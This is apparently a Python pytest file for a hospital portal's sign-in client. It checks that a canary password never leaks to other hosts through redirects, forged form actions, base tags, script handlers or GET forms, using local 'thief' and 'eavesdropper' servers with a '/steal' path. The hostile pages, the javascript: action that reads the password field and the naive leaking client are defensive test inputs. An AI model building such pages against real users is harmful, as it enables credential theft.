"""The password that was typed never leaves to anybody but the site, whatever its pages and answers say (H-01 to H-06).

Each row is first walked by plain `requests`, which leaves the canary where it must not be: the scan would find it.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from contextlib import suppress
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin

import pytest
import requests
import trustme

from ntuh_onboard.backend.web.failures import AnswerLost, UnexpectedPage, Why
from ntuh_onboard.common import errors
from tests.backend.web.canaries import CANARY, DOOR, backend_to, door, leaks, sent_once, sign_in, type_password
from tests.backend.web.conftest import secured
from tests.backend.web.servers import Server, page, redirect
from tests.encodings import encodings

FORM = {"txtUserID": "104567", "txtPass": CANARY}


def test_the_scan_finds_a_planted_canary() -> None:
    """In every way of writing it, with anything around it; and none where there is none."""
    for way, coded in encodings(CANARY).items():
        assert way in leaks(b"name=" + coded + b"&more=1"), way
    for around in ("", "a", "ab", "abc"):
        assert any("base64" in each for each in leaks(base64.b64encode(f"{around}{CANARY}xyz".encode())))
    assert leaks(CANARY.replace("7", "8").encode()) == []


@pytest.fixture
def safe(authority: trustme.CA) -> Iterator[Server]:
    """The hospital, over https."""
    with Server(tls=secured(authority.issue_cert("127.0.0.1", "localhost"))) as running:
        yield running


@pytest.fixture
def thief(authority: trustme.CA) -> Iterator[Server]:
    """Somebody else, over https, with a certificate that is trusted too."""
    with Server(tls=secured(authority.issue_cert("127.0.0.1", "localhost"))) as running:
        running.replies["/steal"] = page()
        yield running


@pytest.fixture
def eavesdropper(other: Server) -> Server:
    """Somebody else, over http."""
    other.replies["/steal"] = page()
    return other


STATUSES = range(300, 309)
LEAKING = {307, 308}
"""Which of them plain `requests` follows with the body."""
PLACES: dict[str, Callable[[Server, Server], str]] = {
    "other port": lambda thief, _: f"{thief.origin}/steal",
    "other host": lambda thief, _: f"https://localhost:{thief.port}/steal",
    "no scheme": lambda thief, _: f"//127.0.0.1:{thief.port}/steal",
    "a name before it": lambda thief, _: f"https://127.0.0.1@127.0.0.1:{thief.port}/steal",
    "plain http": lambda _, eavesdropper: f"{eavesdropper.origin}/steal",
    "plain http, other host": lambda _, eavesdropper: f"http://localhost:{eavesdropper.port}/steal",
}


def planted(safe: Server, ca_file: Path) -> None:
    """What a program does that sends the form and goes where it is told."""
    with suppress(requests.RequestException):
        requests.post(f"{safe.origin}{DOOR}", FORM, timeout=5, verify=str(ca_file))


@pytest.mark.parametrize("place", PLACES)
def test_a_redirect_carries_the_password_nowhere(
    safe: Server, thief: Server, eavesdropper: Server, ca_file: Path, place: str
) -> None:
    """H-01: 300 to 308, to another port, host or scheme; plain `requests` takes it along on 307 and 308."""
    others = (thief, eavesdropper)
    for status in STATUSES:
        for each in (safe, *others):
            each.requests.clear()
        safe.replies[DOOR] = redirect(status, PLACES[place](thief, eavesdropper))
        planted(safe, ca_file)
        assert any(leaks(each.seen) for each in others) is (status in LEAKING), status
        for each in (safe, *others):
            each.requests.clear()
        backend = backend_to(safe.origin, ca_file=ca_file)
        safe.replies[DOOR] = door()
        backend.portal.sign_in_page()
        safe.replies[DOOR] = redirect(status, PLACES[place](thief, eavesdropper))
        with pytest.raises(AnswerLost):
            type_password(backend)
        assert [each.seen for each in others] == [b"", b""], status
        assert sent_once(safe), status


@pytest.mark.parametrize("status", STATUSES)
def test_a_redirect_at_the_same_site_carries_it_nowhere_either(safe: Server, ca_file: Path, status: int) -> None:
    """H-01: it is in one request, the one that was asked for; plain `requests` sends it twice on 307 and 308."""
    safe.replies |= {DOOR: redirect(status, "/again"), "/again": page("<p>again")}
    planted(safe, ca_file)
    assert (sum(bool(leaks(each.raw)) for each in safe.requests) == 2) is (status in LEAKING)
    safe.requests.clear()
    backend = backend_to(safe.origin, ca_file=ca_file)
    safe.replies[DOOR] = door()
    backend.portal.sign_in_page()
    safe.replies[DOOR] = redirect(status, "/again")
    with pytest.raises(AnswerLost):
        type_password(backend)
    assert sent_once(safe)


class Naive(HTMLParser):
    """Where a program would send the form that believes every word of the page."""

    def __init__(self, source: str, url: str) -> None:
        super().__init__()
        self.base, self.action, self.method = url, "", "post"
        self.feed(source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        got = {name: value or "" for name, value in attrs}
        self.base = urljoin(self.base, got["href"]) if tag == "base" else self.base
        if tag == "form":
            self.action, self.method = got["action"], got["method"]
        self.action = got.get("formaction", self.action)
        self.method = got.get("formmethod", self.method)
        for each in got.get("onclick", "").split("&quot;")[0].split("'"):
            self.action = each if each.endswith("/steal") else self.action

    def send(self, ca_file: Path) -> None:
        url = urljoin(self.base, self.action)
        with suppress(requests.RequestException):
            if self.method == "get":
                requests.get(url, FORM, timeout=5, verify=str(ca_file))
            else:
                requests.post(url, FORM, timeout=5, verify=str(ca_file))


OPTIONS = "WebForm_DoPostBackWithOptions(new WebForm_PostBackOptions('x', '', true, '', '{}', false, false))"
PAGES: dict[str, Callable[[Server, Server], bytes]] = {
    "action, other port": lambda thief, _: door(action=f"{thief.origin}/steal"),
    "action, other host": lambda thief, _: door(action=f"https://localhost:{thief.port}/steal"),
    "action, no scheme": lambda thief, _: door(action=f"//127.0.0.1:{thief.port}/steal"),
    "action, http": lambda _, eavesdropper: door(action=f"{eavesdropper.origin}/steal"),
    "action of the button": lambda thief, _: door(button=f'formaction="{thief.origin}/steal"'),
    "action of a script": lambda thief, _: door(button=f'onclick="{OPTIONS.format(thief.origin + "/steal")}"'),
    "base": lambda thief, _: door(action="steal", head=f'<base href="{thief.origin}/">'),
}
NO_ADDRESS = (
    "javascript:alert(document.forms[0].txtPass.value)",
    "data:text/html,x",
    "mailto:a@example.invalid",
    "file:///x",
)


@pytest.mark.parametrize("kind", PAGES)
def test_a_form_that_goes_elsewhere_is_not_sent(
    safe: Server, thief: Server, eavesdropper: Server, ca_file: Path, kind: str
) -> None:
    """H-06: not one byte of it, to anybody; who believes the page leaves the password there."""
    safe.replies[DOOR] = PAGES[kind](thief, eavesdropper)
    source = safe.replies[DOOR]
    assert isinstance(source, bytes)
    Naive(source.decode(), f"{safe.origin}{DOOR}").send(ca_file)
    assert leaks(thief.seen + eavesdropper.seen)
    for each in (thief, eavesdropper):
        each.requests.clear()
    with pytest.raises((UnexpectedPage, errors.NetworkSignIn)):
        sign_in(backend_to(safe.origin, ca_file=ca_file))
    assert thief.seen + eavesdropper.seen == b""
    assert leaks(safe.seen) == []


@pytest.mark.parametrize("action", NO_ADDRESS)
def test_a_form_that_goes_to_no_server_is_not_sent(safe: Server, ca_file: Path, action: str) -> None:
    """H-06."""
    safe.replies[DOOR] = door(action=action)
    with pytest.raises((UnexpectedPage, errors.NetworkSignIn)):
        sign_in(backend_to(safe.origin, ca_file=ca_file))
    assert leaks(safe.seen) == []


@pytest.mark.parametrize("asked", [{"method": "get"}, {"method": ""}, {"button": 'formmethod="get"'}])
def test_no_password_stands_in_an_address(safe: Server, ca_file: Path, asked: dict[str, str]) -> None:
    """H-10: a form that would put it there is not sent; who sends it leaves it in the server's log."""
    source = door(**asked)
    safe.replies[DOOR] = source
    naive = Naive(source.decode(), f"{safe.origin}{DOOR}")
    naive.method = naive.method or "get"
    naive.send(ca_file)
    assert any(leaks(each.line.encode()) for each in safe.requests)
    safe.requests.clear()
    with pytest.raises(UnexpectedPage) as refused:
        sign_in(backend_to(safe.origin, ca_file=ca_file))
    assert refused.value.why is Why.FORM
    assert leaks(safe.seen) == []
